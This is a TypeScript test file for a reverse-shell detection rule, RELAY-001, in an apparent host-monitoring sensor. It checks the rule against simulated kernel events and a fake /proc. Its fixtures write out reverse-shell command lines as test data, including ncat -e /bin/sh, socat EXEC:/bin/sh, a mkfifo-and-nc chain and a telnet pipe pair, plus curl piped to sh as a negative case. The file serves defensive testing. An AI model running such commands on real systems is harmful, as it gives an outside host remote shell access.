/**
 * RELAY-001 over hand-made event sequences shaped like what the kernel reports for real relays
 * (the kernel tier runs the programs), with who-holds-what given as a fake /proc that changes
 * as the sequence goes on.
 */
import { describe, expect, it } from "vitest";
import {
  Engine, ProcessTable, createRelay001Rule, createTrc101Rule, type ExistingTcpSocket, type Finding, type Holding,
  type Relay001Options, type SensorEvent, } from "sockeye";
import { LOCAL_END as LOCAL, at, connectedOut, dup, exit, fifo, holds, pipe, proc, silentLogger, start, tty, unix } from "../engine/fixtures.js";
import { fakeHost } from "../host/fake-host.js";

const REMOTE = { address: "10.0.0.66", port: 4444 };
const SOCK = 9001;

/** A step is an event, or a change to what processes hold (their /proc/<pid>/fd). */
type Step = SensorEvent | { holds: Record<number, Holding[]> };

function run(steps: Step[], withTrc101 = false, existing: ExistingTcpSocket[] = [], maxFdsPerLook?: number, options: Relay001Options = {}) {
  const host = fakeHost({ existing, ...(maxFdsPerLook !== undefined ? { maxFdsPerLook } : {}) });
  const rules = [createRelay001Rule(options), ...(withTrc101 ? [createTrc101Rule()] : [])];
  const engine = new Engine({ rules, processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
  const findings: Finding[] = [];
  for (const step of steps) {
    if ("holds" in step) {
      for (const [pid, held] of Object.entries(step.holds)) host.world.set(Number(pid), held);
    } else {
      findings.push(...engine.handle(step));
    }
  }
  return { findings, stats: engine.stats() };
}

const bash = proc(100, 1, "bash");
const relay = proc(200, 100, "ncat");
const shell = proc(201, 200, "sh");

interface Case {
  name: string;
  steps: Step[];
  /** For a relay: the relay program's name and the shell's fds whose stream reaches it. */
  relay?: { program: string; fds: number[]; input: number; output: number };
}

const relays: Case[] = [
  {
    name: "ncat -e /bin/sh: two pipes, the parent holds their far ends and the socket",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
      ...start(relay, "/usr/bin/ncat", ["ncat", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write"), holds(2, "pts:1")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
    ],
    relay: { program: "ncat", fds: [0, 1], input: 1, output: 1 },
  },
  {
    name: "socat EXEC:/bin/sh: a socketpair, the peer held with the socket",
    steps: [
      ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "EXEC:/bin/sh"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "sock:22")], 201: [holds(0, "sock:21"), holds(1, "sock:21"), holds(2, "pts:1")] } },
      ...start(shell, "/bin/sh", ["sh"], [unix(21, 22), unix(21, 22), tty(1)], 3),
    ],
    relay: { program: "socat", fds: [0, 1], input: 1, output: 1 },
  },
  {
    name: "socat EXEC:'bash -li',pty: the pty master (tty-index) held with the socket",
    steps: [
      ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "EXEC:bash -li,pty"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "ptm:7")], 201: [holds(0, "pts:7"), holds(1, "pts:7"), holds(2, "pts:7")] } },
      ...start(shell, "/usr/bin/bash", ["bash", "-li"], [tty(7), tty(7), tty(7)], 3),
    ],
    relay: { program: "socat", fds: [0, 1, 2], input: 1, output: 1 },
  },
  {
    name: "mkfifo chain, the nc connecting last: cat F | sh -i 2>&1 | nc H P > F",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash", "-c", "cat F | sh -i 2>&1 | nc 10.0.0.66 4444 > F"], [tty(1), tty(1), tty(1)], 0),
      { holds: { 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write"), holds(2, "pipe:32", "write")] } },
      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(31), pipe(32), pipe(32)], 1),
      { holds: { 301: [holds(0, "pts:1"), holds(1, "pipe:31", "write"), holds(3, "fifo:254:1:40", "read")] } },
      ...start(proc(301, 100, "cat"), "/usr/bin/cat", ["cat", "F"], [tty(1), pipe(31), tty(1)], 2),
      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [pipe(32), fifo(40), tty(1)], 3),
      { holds: { 303: [holds(0, "pipe:32", "read"), holds(1, "fifo:254:1:40", "write"), holds(2, "pts:1"), holds(3, `sock:${SOCK}`)] } },
      connectedOut(proc(303, 100, "nc"), SOCK, 40),
    ],
    relay: { program: "nc.traditional", fds: [0, 1, 2], input: 2, output: 1 },
  },
  {
    name: "node child_process.spawn: one socketpair per stdio fd",
    steps: [
      ...start(relay, "/usr/bin/node", ["node", "relay.js"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: [holds(17, `sock:${SOCK}`), holds(18, "sock:52"), holds(19, "sock:54"), holds(20, "sock:56")], 201: [holds(0, "sock:51"), holds(1, "sock:53"), holds(2, "sock:55")] } },
      ...start(shell, "/bin/sh", ["/bin/sh", "-i"], [unix(51, 52), unix(53, 54), unix(55, 56)], 3),
    ],
    relay: { program: "node", fds: [0, 1, 2], input: 1, output: 1 },
  },
  {
    name: "one connection per direction to one host: telnet H P1 | sh | telnet H P2",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
      ...start(proc(301, 100, "telnet"), "/usr/bin/inetutils-telnet", ["telnet", "10.0.0.66", "4444"], [tty(1), pipe(31), tty(1)], 1),
      connectedOut(proc(301, 100, "telnet"), SOCK, 2),
      ...start(proc(303, 100, "telnet"), "/usr/bin/inetutils-telnet", ["telnet", "10.0.0.66", "4445"], [pipe(32), tty(1), tty(1)], 2),
      connectedOut(proc(303, 100, "telnet"), SOCK + 1, 2, { address: "10.0.0.66", port: 4445 }),
      { holds: { 301: [holds(1, "pipe:31", "write"), holds(3, `sock:${SOCK}`)], 303: [holds(0, "pipe:32", "read"), holds(3, `sock:${SOCK + 1}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write")] } },
      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
    ],
    relay: { program: "inetutils-telnet", fds: [0, 1], input: 1, output: 1 },
  },
  {
    name: "the relay connects a minute after its shell started (no window to wait out)",
    steps: [
      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
      connectedOut(relay, SOCK, 60_000),
    ],
    relay: { program: "ncat", fds: [0, 1], input: 1, output: 1 },
  },
  {
    name: "the shell starts an hour after its relay connected (socat TCP:H:P SYSTEM:'sleep 3600; exec sh -i')",
    steps: [
      ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "SYSTEM:sleep 3600; exec sh -i"], [tty(1), tty(1), tty(1)], 0),
      connectedOut(relay, SOCK, 1),
      { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "sock:22")], 201: [holds(0, "sock:21"), holds(1, "sock:21"), holds(2, "pts:1")] } },
      ...start(shell, "/bin/sh", ["sh", "-i"], [unix(21, 22), unix(21, 22), tty(1)], 3_600_000),
    ],
    relay: { program: "socat", fds: [0, 1], input: 1, output: 1 },
  },
  {
    name: "a chain of six cats each way between the shell and nc (no hop count to exceed)",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash", "-c", "chain"], [tty(1), tty(1), tty(1)], 0),
      // input: nc -> pipe 60 -> cat -> pipe 61 -> ... -> pipe 66 -> sh; output: sh -> pipe 70 -> cat -> ... -> pipe 76 -> nc
      ...Array.from({ length: 6 }, (_, i) => [
        { holds: { [310 + i]: [holds(0, `pipe:${60 + i}`, "read"), holds(1, `pipe:${61 + i}`, "write")] } },
        ...start(proc(310 + i, 100, "cat"), "/usr/bin/cat", ["cat"], [pipe(60 + i), pipe(61 + i), tty(1)], 1),
        { holds: { [320 + i]: [holds(0, `pipe:${70 + i}`, "read"), holds(1, `pipe:${71 + i}`, "write")] } },
        ...start(proc(320 + i, 100, "cat"), "/usr/bin/cat", ["cat"], [pipe(70 + i), pipe(71 + i), tty(1)], 1),
      ]).flat(),
      { holds: { 302: [holds(0, "pipe:66", "read"), holds(1, "pipe:70", "write"), holds(2, "pipe:70", "write")] } },
      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(66), pipe(70), pipe(70)], 2),
      { holds: { 303: [holds(0, "pipe:76", "read"), holds(1, "pipe:60", "write"), holds(3, `sock:${SOCK}`)] } },
      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [pipe(76), pipe(60), tty(1)], 3),
      connectedOut(proc(303, 100, "nc"), SOCK, 4),
    ],
    relay: { program: "nc.traditional", fds: [0, 1, 2], input: 7, output: 7 },
  },
  {
    name: "the chain's last hop, forked by a subshell (not the shell's family), execs after the connect: found through the stdio index",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash", "-c", "chain"], [tty(1), tty(1), tty(1)], 0),
      { holds: { 302: [holds(0, "pipe:81", "read"), holds(1, "pipe:82", "write")] } },
      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(81), pipe(82), tty(1)], 1),
      { holds: { 303: [holds(0, "fifo:254:1:90", "read"), holds(1, "pipe:80", "write"), holds(3, `sock:${SOCK}`)] } },
      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [fifo(90), pipe(80), tty(1)], 2),
      connectedOut(proc(303, 100, "nc"), SOCK, 3),
      // input hop: pipe 80 -> cat (child of subshell 150) -> pipe 81; output hop: pipe 82 -> cat -> FIFO 90
      { holds: { 311: [holds(0, "pipe:80", "read"), holds(1, "pipe:81", "write")], 312: [holds(0, "pipe:82", "read"), holds(1, "fifo:254:1:90", "write")] } },
      ...start(proc(311, 150, "cat"), "/usr/bin/cat", ["cat"], [pipe(80), pipe(81), tty(1)], 4),
      ...start(proc(312, 150, "cat"), "/usr/bin/cat", ["cat"], [pipe(82), fifo(90), tty(1)], 5),
    ],
    relay: { program: "nc.traditional", fds: [0, 1], input: 2, output: 2 },
  },
];

const notRelays: Case[] = [
  {
    name: "curl … | sh: curl feeds the shell, nothing reads it back into the connection",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
      ...start(proc(301, 100, "curl"), "/usr/bin/curl", ["curl", "-s", "http://x/"], [tty(1), pipe(31), tty(1)], 1),
      connectedOut(proc(301, 100, "curl"), SOCK, 2),
      { holds: { 301: [holds(1, "pipe:31", "write"), holds(5, `sock:${SOCK}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pts:1"), holds(2, "pts:1")] } },
      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), tty(1), tty(1)], 3),
    ],
  },
  {
    name: "sh -c under a relay-shaped parent: not reading commands from stdin",
    steps: [
      ...start(relay, "/usr/bin/python3", ["python3", "agent.py"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
      ...start(shell, "/bin/sh", ["sh", "-c", "uptime"], [pipe(11), pipe(12), tty(1)], 3),
    ],
  },
  {
    name: "an SSH login: sshd holds the pty master and an accepted connection, no outbound one",
    steps: [
      ...start(proc(400, 1, "sshd-session"), "/usr/lib/openssh/sshd-session", ["sshd-session"], [tty(1), tty(1), tty(1)], 0),
      { holds: { 400: [holds(4, "sock:77"), holds(9, "ptm:5")], 401: [holds(0, "pts:5"), holds(1, "pts:5"), holds(2, "pts:5")] } },
      ...start(proc(401, 400, "bash"), "/usr/bin/bash", ["-bash"], [tty(5), tty(5), tty(5)], 1),
    ],
  },
  {
    name: "tmux: the server holds the pty master and no socket",
    steps: [
      { holds: { 500: [holds(3, "sock:88"), holds(7, "ptm:6")], 501: [holds(0, "pts:6"), holds(1, "pts:6"), holds(2, "pts:6")] } },
      ...start(proc(500, 1, "tmux: server"), "/usr/bin/tmux", ["tmux"], [tty(1), tty(1), tty(1)], 0),
      ...start(proc(501, 500, "bash"), "/usr/bin/bash", ["bash"], [tty(6), tty(6), tty(6)], 1),
    ],
  },
  {
    name: "input and output on two connections to two hosts (a fetched script whose output is shipped elsewhere)",
    steps: [
      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
      ...start(proc(301, 100, "nc"), "/usr/bin/nc", ["nc", "h", "1"], [tty(1), pipe(31), tty(1)], 1),
      connectedOut(proc(301, 100, "nc"), SOCK, 2),
      ...start(proc(303, 100, "nc"), "/usr/bin/nc", ["nc", "h", "2"], [pipe(32), tty(1), tty(1)], 2),
      connectedOut(proc(303, 100, "nc"), SOCK + 1, 2, { address: "10.0.0.77", port: 514 }),
      { holds: { 301: [holds(1, "pipe:31", "write"), holds(3, `sock:${SOCK}`)], 303: [holds(0, "pipe:32", "read"), holds(3, `sock:${SOCK + 1}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write")] } },
      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
    ],
  },
  {
    name: "the shell exits before its relay connects",
    steps: [
      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
      exit({ task: shell, timeMs: at(3) }),
      connectedOut(relay, SOCK, 4),
    ],
  },
  {
    name: "the far end of the shell's stdin held only for reading: the holder does not feed it",
    steps: [
      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "read"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
    ],
  },
];

interface RelayFields {
  destination: { ip: string; port: number };
  sockeye: { relay: { program: { name: string }; socket_inode: number; shell: { fds: number[] }; input_chain: unknown[]; output_chain: unknown[] } };
}

describe("RELAY-001: relay shells give one finding each", () => {
  it.each(relays.map((c) => [c.name, c] as const))("%s", (_name, c) => {
    const { findings } = run(c.steps);
    expect(findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
    const f = findings[0]! as unknown as Finding & RelayFields;
    expect(f.destination).toEqual({ ip: REMOTE.address, port: REMOTE.port });
    expect(f.sockeye.relay.program.name).toBe(c.relay!.program);
    expect(f.sockeye.relay.socket_inode).toBe(SOCK);
    expect(f.sockeye.relay.shell.fds).toEqual(c.relay!.fds);
    expect(f.sockeye.relay.input_chain).toHaveLength(c.relay!.input);
    expect(f.sockeye.relay.output_chain).toHaveLength(c.relay!.output);
    expect(f.rule.severity).toBe("high");
    expect(f.threat?.tactic.id).toEqual(["TA0002", "TA0011"]);
  });

  it("a relay split over two connections names both: the input's as the destination, the output's beside it", () => {
    const c = relays.find((r) => r.name.startsWith("one connection per direction"))!;
    const f = run(c.steps).findings[0]! as unknown as Finding & { sockeye: { relay: { output_socket: unknown } } };
    expect(f.sockeye.relay.output_socket).toEqual({ socket_inode: SOCK + 1, remote: { address: "10.0.0.66", port: 4445 } });
  });
});

describe("RELAY-001: a UDP socket that never connects (socat UDP-SENDTO:, sendto loops)", () => {
  // The kernel records its first send (cgroup/sendmsg4|6): fd -1, transport udp, unconnected,
  // the remote where the datagram went. It comes after the shell's exec, once the shell writes.
  const steps = (sent: Partial<SensorEvent>): Step[] => [
    ...start(relay, "/usr/bin/socat", ["socat", "UDP-SENDTO:10.0.0.66:4444", "EXEC:sh"], [tty(1), tty(1), tty(1)], 1),
    { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "sock:22")], 201: [holds(0, "sock:21"), holds(1, "sock:21"), holds(2, "pts:1")] } },
    ...start(shell, "/bin/sh", ["sh"], [unix(21, 22), unix(21, 22), tty(1)], 2),
    { ...connectedOut(relay, SOCK, 3), fd: -1, transport: "udp", local: { address: "0.0.0.0", port: 40000 }, ...sent } as SensorEvent,
  ];

  it("its first send completes the relay: one finding, transport udp, the datagram's destination, marked unconnected", () => {
    const { findings } = run(steps({ unconnected: true }));
    expect(findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
    const f = findings[0]! as unknown as Finding & { destination: unknown; network: { transport: string }; sockeye: { relay: { unconnected?: boolean; socket_inode: number; program: { name: string } } } };
    expect(f.destination).toEqual({ ip: REMOTE.address, port: REMOTE.port });
    expect(f.network.transport).toBe("udp");
    expect(f.sockeye.relay).toMatchObject({ unconnected: true, socket_inode: SOCK, program: { name: "socat" } });
  });

  it("a connected UDP socket's record is not marked unconnected", () => {
    const f = run(steps({})).findings[0]! as unknown as Finding & { sockeye: { relay: Record<string, unknown> } };
    expect(f.sockeye.relay["unconnected"]).toBeUndefined();
  });

  it("a benign sender whose socket no shell's stdio reaches (a resolver's query): no finding", () => {
    const resolver = proc(300, 1, "dnsmasq");
    const { findings } = run([
      ...start(resolver, "/usr/sbin/dnsmasq", ["dnsmasq"], [tty(1), tty(1), tty(1)], 0),
      { holds: { 300: [holds(4, "sock:5000")] } },
      { ...connectedOut(resolver, 5000, 1, { address: "127.0.0.53", port: 53 }), fd: -1, transport: "udp", unconnected: true },
    ]);
    expect(findings).toEqual([]);
  });
});

describe("RELAY-001: structural exclusions stay silent", () => {
  it.each(notRelays.map((c) => [c.name, c] as const))("%s", (_name, c) => {
    expect(run(c.steps).findings).toEqual([]);
  });
});

describe("RELAY-001 and TRC-101: one incident, one finding", () => {
  it("python dup2s the socket onto 0-2 (TRC-101), then pty.spawn runs sh behind a pty it relays (RELAY-001): one finding", () => {
    const py = proc(200, 100, "python3");
    const steps: Step[] = [
      ...start(py, "/usr/bin/python3", ["python3", "-c", "..."], [tty(1), tty(1), tty(1)], 0),
      connectedOut(py, SOCK, 1),
      ...[0, 1, 2].map((fd, i) =>
        dup({ task: py, newfd: fd, oldfd: 3, socketIno: SOCK, socketOnFds: [0, 1, 2].slice(0, i + 1), origin: "connected", local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(2 + i) })),
      { holds: { 200: [holds(0, `sock:${SOCK}`), holds(1, `sock:${SOCK}`), holds(2, `sock:${SOCK}`), holds(3, `sock:${SOCK}`), holds(4, "ptm:9")], 201: [holds(0, "pts:9"), holds(1, "pts:9"), holds(2, "pts:9")] } },
      ...start(proc(201, 200, "sh"), "/bin/sh", ["sh"], [tty(9), tty(9), tty(9)], 10),
    ];
    const { findings, stats } = run(steps, true);
    expect(findings.map((f) => f.rule.id)).toEqual(["TRC-101"]);
    expect(stats.foldedByRule["RELAY-001"]).toBe(1);
  });

  it("two relay shells on two sockets: two findings", () => {
    const steps: Step[] = [...relays[0]!.steps];
    const relay2 = proc(210, 100, "ncat"), shell2 = proc(211, 210, "sh");
    steps.push(
      ...start(relay2, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 10),
      connectedOut(relay2, SOCK + 1, 11),
      { holds: { 210: [holds(3, `sock:${SOCK + 1}`), holds(5, "pipe:61", "write"), holds(6, "pipe:62", "read")], 211: [holds(0, "pipe:61", "read"), holds(1, "pipe:62", "write")] } },
      ...start(shell2, "/bin/sh", ["/bin/sh"], [pipe(61), pipe(62), tty(1)], 12),
    );
    expect(run(steps).findings.map((f) => f.rule.id)).toEqual(["RELAY-001", "RELAY-001"]);
  });
});

describe("RELAY-001: sockets that existed as observation began (/proc/net/tcp)", () => {
  const existing = (origin: ExistingTcpSocket["origin"]): ExistingTcpSocket[] => [{ ino: SOCK, family: "inet", local: { ...LOCAL }, remote: { ...REMOTE }, origin }];
  /** An ncat connected before the sensor; a bash starts at `first`, the shell at `shellAt`. */
  const steps = (first: number, shellAt: number): Step[] => [
    ...start(proc(90, 1, "bash"), "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], first),
    { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
    ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], shellAt),
  ];
  // The ncat is the shell's parent in the process table; the first event starts observation.
  const withRelay = (s: Step[]): Step[] => [...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 0), ...s];

  it("outbound, the shell starting 3 s into observation: one finding, connected_by unknown", () => {
    const { findings } = run(withRelay(steps(1, 3000)), false, existing("outbound"));
    expect(findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
    const r = (findings[0] as unknown as { sockeye: { relay: Record<string, unknown> } }).sockeye.relay;
    expect(r.connected_by).toBeNull();
    expect(r.connected_before_observation).toBe(true);
    expect(r.socket_inode).toBe(SOCK);
  });

  it("outbound, the shell starting an hour into observation: one finding (no window)", () => {
    expect(run(withRelay(steps(0, 3_600_000)), false, existing("outbound")).findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
  });

  it("accepted (a listener on its port): no finding", () => {
    expect(run(withRelay(steps(0, 3000)), false, existing("accepted")).findings).toEqual([]);
  });

  it("not in the table (accepted or unseen while the sensor ran): no finding", () => {
    expect(run(withRelay(steps(0, 3000))).findings).toEqual([]);
  });

  it("a look cut short by the host's fd budget is counted in the rule's state, never a silent no", () => {
    const steps = (relayHolds: Holding[]): Step[] => [
      ...start(relay, "/usr/bin/ncat", ["ncat", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty(1), tty(1), tty(1)], 1),
      connectedOut(relay, SOCK, 2),
      { holds: { 200: relayHolds, 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write"), holds(2, "pts:1")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
    ];
    const relayHolds = [holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read"), holds(7, `sock:${SOCK}`)];
    const within = run(steps(relayHolds), false, [], 3);
    expect(within.findings).toHaveLength(1);
    expect(within.stats.ruleState["RELAY-001"]).toMatchObject({ incomplete: 0 });
    const cut = run(steps(relayHolds), false, [], 2);
    expect(cut.findings).toEqual([]);
    expect(cut.stats.ruleState["RELAY-001"]!.incomplete).toBeGreaterThan(0);
  });
});

describe("RELAY-001: an agent holding a long-lived connection and running interactive shells", () => {
  // A web-terminal agent: it connected a minute before it spawned bash -i behind a pty. Its
  // structure is a relay's (nothing tells it from socat SYSTEM:'sleep 60; exec bash -i'), so it
  // is reported unless named in the configuration, and then suppressed with the reason counted.
  const agent = {
    steps: [
      ...start(relay, "/usr/bin/node", ["node", "agent.js"], [tty(1), tty(1), tty(1)], 0),
      connectedOut(relay, SOCK, 1),
      { holds: { 200: [holds(17, `sock:${SOCK}`), holds(18, "ptm:8")], 201: [holds(0, "pts:8"), holds(1, "pts:8"), holds(2, "pts:8")] } },
      ...start(shell, "/usr/bin/bash", ["bash", "-i"], [tty(8), tty(8), tty(8)], 60_000),
    ],
  };
  const entry = { executable: "/usr/bin/node", reason: "web terminal agent" };

  it("reported by default: the old connection is no excuse", () => {
    expect(run(agent.steps).findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
  });

  it("named in rules.relay_agents: no finding, the suppression counted under the entry's reason", () => {
    const { findings, stats } = run(agent.steps, false, [], undefined, { agents: [entry] });
    expect(findings).toEqual([]);
    expect(stats.suppressedByRule["RELAY-001"]).toEqual({ "agent:web terminal agent": 1 });
  });

  it("an entry for another executable, or another unit, does not cover it", () => {
    expect(run(agent.steps, false, [], undefined, { agents: [{ ...entry, executable: "/usr/bin/nodejs" }] }).findings).toHaveLength(1);
    expect(run(agent.steps, false, [], undefined, { agents: [{ ...entry, unit: "agent.service" }] }).findings).toHaveLength(1);
  });
});

describe("RELAY-001: bounds cost coverage visibly, never silently", () => {
  it("300 decoy candidate shells between the shell's exec and its relay's connect: the relay is still found", () => {
    const steps: Step[] = [
      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
    ];
    for (let i = 0; i < 300; i++) {
      const pid = 1000 + i;
      steps.push({ holds: { [pid]: [holds(0, `pipe:${5000 + 2 * i}`, "read"), holds(1, `pipe:${5001 + 2 * i}`, "write")] } });
      steps.push(...start(proc(pid, 100, "sh"), "/bin/sh", ["sh"], [pipe(5000 + 2 * i), pipe(5001 + 2 * i), tty(1)], 3));
    }
    steps.push(connectedOut(relay, SOCK, 10_000));
    const { findings, stats } = run(steps);
    expect(findings.map((f) => [f.rule.id, f.process.pid])).toEqual([["RELAY-001", 201]]);
    expect(stats.ruleState["RELAY-001"]).toMatchObject({ abandoned: 0 });
  });

  it("a candidate shell fed commands through a pipe (cat cmds | sh) is not looked at again for every command it runs", () => {
    const host = fakeHost();
    let looks = 0;
    const openFiles = host.openFiles.bind(host);
    host.openFiles = (pid, startNs) => { looks++; return openFiles(pid, startNs); };
    host.world.set(201, [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")]);
    const engine = new Engine({ rules: [createRelay001Rule()], processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
    for (const e of start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 1)) engine.handle(e);
    const afterShell = looks;
    for (let i = 0; i < 50; i++) for (const e of start(proc(3000 + i, 201, "ls"), "/usr/bin/ls", ["ls"], [pipe(11), pipe(12), tty(1)], 2)) engine.handle(e);
    expect(looks - afterShell).toBeLessThan(10);
  });

  it("past maxPending the oldest live candidate is abandoned and counted (SENSOR-001 reports it)", () => {
    const steps: Step[] = [
      { holds: { 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")], 202: [holds(0, "pipe:13", "read"), holds(1, "pipe:14", "write")] } },
      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
      ...start(proc(202, 200, "sh"), "/bin/sh", ["/bin/sh"], [pipe(13), pipe(14), tty(1)], 3),
    ];
    expect(run(steps, false, [], undefined, { maxPending: 1 }).stats.ruleState["RELAY-001"]).toMatchObject({ pending: 1, abandoned: 1 });
  });

  it("a chain longer than the budget of processes examined: no finding, and the look is counted as incomplete", () => {
    const c = relays.find((r) => r.name.startsWith("a chain of six cats"))!;
    const cut = run(c.steps, false, [], undefined, { maxExamined: 6 });
    expect(cut.findings).toEqual([]);
    expect(cut.stats.ruleState["RELAY-001"]!.incomplete).toBeGreaterThan(0);
    expect(run(c.steps).findings).toHaveLength(1);
  });
});
